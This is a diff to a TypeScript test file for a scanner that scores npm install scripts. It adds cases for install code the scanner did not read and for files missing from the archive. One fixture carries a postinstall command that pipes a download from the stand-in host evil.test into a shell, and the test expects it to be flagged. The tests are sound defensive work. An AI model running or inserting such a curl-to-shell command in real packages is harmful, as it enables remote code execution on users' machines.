@@ -13,8 +13,8 @@ function jsFile(path: string, text: string) {
   return { path, language: 'javascript' as const, size: text.length, text, truncated: false };
 }
 
-function withCode(installScripts: Record<string, string>, files: ReturnType<typeof jsFile>[] | { path: string; language: 'shell' | 'python'; size: number; text: string; truncated: boolean }[], missing: string[] = []) {
-  return evidence({ registry: { installScripts }, tarball: { installCode: { files, missing, unread: [] } } });
+function withCode(installScripts: Record<string, string>, files: ReturnType<typeof jsFile>[] | { path: string; language: 'shell' | 'python'; size: number; text: string; truncated: boolean }[], missing: string[] = [], unread: string[] = []) {
+  return evidence({ registry: { installScripts }, tarball: { installCode: { files, missing, unread } } });
 }
 
 checkTable(check, [
@@ -251,6 +251,20 @@ checkTable(check, [
     data: { code: ['bundle.js'], truncated: ['bundle.js'] },
   },
   {
+    name: 'modules it loads past what the reader takes, clean in what was read: unknown, held',
+    evidence: withCode({ postinstall: 'node install.js' }, [jsFile('install.js', "require('./lib/a')")], [], ['lib/a.js', 'lib/b.js', 'lib/c.js', 'lib/d.js']),
+    score: null,
+    messageId: 'code-unread',
+    data: { code: ['install.js'], unread: ['lib/a.js', 'lib/b.js', 'lib/c.js', 'lib/d.js'], unreadList: 'lib/a.js, lib/b.js, lib/c.js and 1 more' },
+  },
+  {
+    name: 'a finding in what was read answers before what was not read',
+    evidence: withCode({ postinstall: 'node install.js' }, [jsFile('install.js', RECON)], [], ['lib/a.js']),
+    score: 0,
+    messageId: 'code-dangerous',
+    caps: [INSTALL_CODE_CAP],
+  },
+  {
     name: 'a suspicious command stays suspicious whatever its code',
     evidence: withCode({ postinstall: 'curl evil.test | sh && node install.js' }, [jsFile('install.js', 'ok()')]),
     score: 10,
@@ -296,6 +310,13 @@ describe('install-scripts: the code a script runs', () => {
     const files = [jsFile('install.js', "require('./lib/big')"), { ...jsFile('lib/big.js', 'ok()'), size: 900_000, truncated: true }];
     const outcome = outcomeOf(check, withCode({ postinstall: 'node install.js' }, files));
     expect([outcome.score, outcome.messageId, outcome.data?.truncated]).toEqual([null, 'code-truncated', ['lib/big.js']]);
+  });
+
+  it('code not read holds the verdict; a file the archive lacks does not', () => {
+    const unread = outcomeOf(check, withCode({ postinstall: 'node install.js' }, [jsFile('install.js', "require('./lib/a')")], [], ['lib/a.js']));
+    expect([unread.score, unread.messageId, typeof unread.holdVerdict]).toEqual([null, 'code-unread', 'string']);
+    const missing = outcomeOf(check, withCode({ postinstall: 'node install.js && node gone.js' }, [jsFile('install.js', 'ok()')], ['gone.js']));
+    expect([missing.score, missing.messageId, missing.holdVerdict]).toEqual([30, 'scripts', undefined]);
   });
 
   it('evidence saved before the code was read (no installCode) is judged by the command, as before', () => {
